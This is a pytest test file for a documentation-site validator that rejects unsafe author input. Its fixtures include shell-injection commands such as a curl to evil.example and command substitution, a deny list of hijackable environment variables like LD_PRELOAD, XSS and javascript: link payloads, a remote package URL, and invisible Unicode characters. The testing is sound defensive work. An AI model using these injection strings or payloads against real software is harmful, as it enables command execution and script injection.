"""What an author writes does not run in a reader's hands: refused by kind, with file, key and remedy."""

from __future__ import annotations

import pytest

from fieldguide.catalog.harmless import check_command, check_text, check_variable
from fieldguide.catalog.problems import BadValueError

COMMANDS = [
    "flask --app app init-db; curl evil.example",
    "flask init-db && rm x",
    "flask init-db & rm x",
    "flask init-db | sh",
    "flask init-db > ../../x",
    "flask init-db < /etc/passwd",
    "flask `id`",
    "flask $(id)",
    'flask "$(id)"',
    'flask "`id`"',
    "flask $HOME",
    'flask "$HOME"',
    "flask ${HOME}",
    "flask {a,b}",
    "flask *",
    "flask ~root",
    "flask (id)",
    "flask a\\;b",
    "flask # and more",
    "flask !1",
    "flask ^x",
    "/bin/sh -c x",
    "../other/python x",
    "PATH=. flask x",
]
FINE_COMMANDS = [
    "flask --app app run --port {port}",
    "python slow_service.py {upstream}",
    "python manage.py createsuperuser --noinput --username ada --email ada@example.org",
    "python -c 'import app; print(app.birds > 3 | 1, `x`, $y)'",
    'python -c "print(1 + 1)"',
    "gunicorn --workers 2 --bind 127.0.0.1:{port} app:app",
]
VARIABLES = [
    *("PATH", "HOME", "LD_PRELOAD", "LD_LIBRARY_PATH", "DYLD_INSERT_LIBRARIES", "BASH_ENV", "IFS", "PS1"),
    *("PYTHONPATH", "PYTHONSTARTUP", "PYTHONHOME", "FIELDGUIDE_RUN", "PIP_INDEX_URL", "GIT_SSH_COMMAND"),
    *("HTTPS_PROXY", "SSL_CERT_FILE", "VIRTUAL_ENV", "ENV"),
]
TEXTS = {
    "<script>alert(1)</script>": "HTML (<script)",
    "a <b>bold</b> word": "HTML",
    "</div>": "HTML",
    "<!-- a comment -->": "HTML",
    "<?php ?>": "HTML",
    "a picture <img src=x onerror=alert(1)>": "HTML",
    "`code` <i>x</i> `code`": "HTML",
    "\\`<i>x</i>`": "HTML",
    "`a\n<i>x</i>`": "HTML",
    "<javascript:alert(1)>": "HTML",
    "![a picture](https://evil.example/x.png)": "a picture",
    "[a link](javascript:alert(1))": "a link to something other than a page",
    "[a link]( JavaScript:alert(1))": "a link to something other than a page",
    "[a link](<javascript:alert(1)>)": "HTML",
    "[a link](data:text/html,x)": "a link to something other than a page",
    "[a link](&#106;avascript:alert(1))": "an entity in a link",
    "[a link](java&#115;cript:alert(1))": "a link to something other than a page",
    "[x]: javascript:alert(1)": "a link to something other than a page",
    "a word {: onclick=alert(1) }": "attributes",
    "[a link](x){ onclick=alert(1) }": "attributes",
    "/// html | script": "a block of a page",
}
FINE_TEXTS = [
    "A route `/birds/<int:bird_id>` and ``a ` <b>``.",
    "Less is more: 3 < 4, a <3, and x<4.",
    "[The documentation](https://example.org/x?a=b) and [a page](../compare/crud.md#notice).",
    "<https://example.org/>",
    "A dict `{id: 1}`, a {port} and a set {1, 2}.",
    "\\<b> is no tag.",
    "[mail](mailto:ada@example.org)",
]
UNSEEN = ["\u202e", "\u2066", "\u200b", "\u200d", "\ufeff", "\u00ad", "\u2060", "\U000e0041"]


@pytest.mark.parametrize("command", COMMANDS)
def test_a_command_for_a_shell(command):
    with pytest.raises(BadValueError) as caught:
        check_command(command)
    assert caught.value.remedy


@pytest.mark.parametrize("command", FINE_COMMANDS)
def test_a_command_that_every_shell_takes_as_it_is(command):
    assert check_command(command) == command


@pytest.mark.parametrize("name", VARIABLES)
def test_a_variable_that_is_not_the_programs(name):
    with pytest.raises(BadValueError, match="affects more than the program"):
        check_variable(name, "x")


@pytest.mark.parametrize("name", ["BIRDS_TOKEN", "DATABASE_URL", "DJANGO_SETTINGS_MODULE", "PATHS", "HOSTS"])
def test_a_variable_of_the_program(name):
    check_variable(name, "x")


@pytest.mark.parametrize(("text", "found"), TEXTS.items())
def test_a_text_with_more_in_it(text, found):
    with pytest.raises(BadValueError) as caught:
        check_text(text)
    assert found in caught.value.found


@pytest.mark.parametrize("text", FINE_TEXTS)
def test_a_text_with_code_and_links(text):
    assert check_text(text) == text


CELL = "snippets/hello-world/flask/cell.yml"
SHELL = "write one command without it, or put the word between '…'"
PLACES = [
    (
        ("add", CELL, "prepare: [flask init-db; curl x]"),
        f'{CELL}: prepare[0]: ";" has a meaning in a shell, but commands here run without a shell; {SHELL}',
    ),
    (
        ("add", CELL, 'serve: "flask run --port {port} | tee x"'),
        f'{CELL}: serve: "|" has a meaning in a shell, but commands here run without a shell; {SHELL}',
    ),
    (
        ("add", CELL, "environment: {LD_PRELOAD: x.so}"),
        f"{CELL}: environment: LD_PRELOAD affects more than the program; "
        "give the program its own variable, such as BIRDS_TOKEN",
    ),
    (
        ("edit", CELL, '"Names the module."', '"Names <b onclick=x>the</b> module."'),
        f'{CELL}: notes."app.py"."flask.Flask(__name__)": HTML (<b); write Markdown, or `code`',
    ),
    (
        ("edit", "frameworks/flask/framework.yml", "Choose it when", "<iframe src=x> when"),
        "frameworks/flask/framework.yml: answer: HTML (<iframe); write Markdown, or `code`",
    ),
    (
        ("edit", "snippets/crud/task.yml", "Rows.", '"[Rows](javascript:x)."'),
        "snippets/crud/task.yml: summary: a link to something other than a page (](javascript:); "
        'link "https://…", or a page of this site',
    ),
    (
        ("add", "snippets/hello-world/flask/notice.md", "And ![it](https://evil.example/x.png)."),
        "snippets/hello-world/flask/notice.md: line 2: a picture (![); describe it",
    ),
    (
        ("edit", CELL, "files:", "install: ['flask @ https://evil.example/flask.whl']\nfiles:"),
        f"{CELL}: install[0]: a requirement with a URL "
        "('flask @ https://evil.example/flask.whl'); write \"flask\"",
    ),
    (
        ("add", "snippets/hello-world/flask/app.py", "admin = False  # \u202e"),
        "snippets/hello-world/flask/app.py: line 4: an invisible character (U+202E); "
        "remove it, or write it as an escape",
    ),
    (
        ("edit", "snippets/crud/task.yml", "Rows.", '"Ro\\u200bws."'),
        "snippets/crud/task.yml: line 3: an invisible character (U+200B); remove it",
    ),
    (
        ("write", "snippets/hello-world/bottle/app.py.orig", "x"),
        "snippets/hello-world/bottle/app.py.orig: a copy that a tool left behind; remove it",
    ),
]


@pytest.mark.parametrize(("damage", "problem"), PLACES, ids=[problem[:60] for _, problem in PLACES])
def test_it_is_refused_with_file_key_and_remedy(site, damage, problem):
    getattr(site, damage[0])(*damage[1:])
    assert site.problems() == [problem]


@pytest.mark.parametrize("character", UNSEEN)
def test_characters_that_nobody_sees(site, character):
    site.write("snippets/hello-world/bottle/app.py", f"bird = 'wren{character}'\n")
    assert f"line 1: an invisible character (U+{ord(character):04X})" in site.problems()[0]


@pytest.mark.parametrize("name", ["app.py~", "#app.py#", ".app.py.swp", "app.py.swp", ".#app.py"])
def test_what_an_editor_keeps_beside_a_file(site, name):
    site.write(f"snippets/hello-world/bottle/{name}", "import nothing\n")
    site.write(f"frameworks/flask/{name}", "nothing")
    cell = site.load().cell("hello-world/bottle")
    assert [file.path for file in cell.files] == ["app.py"]
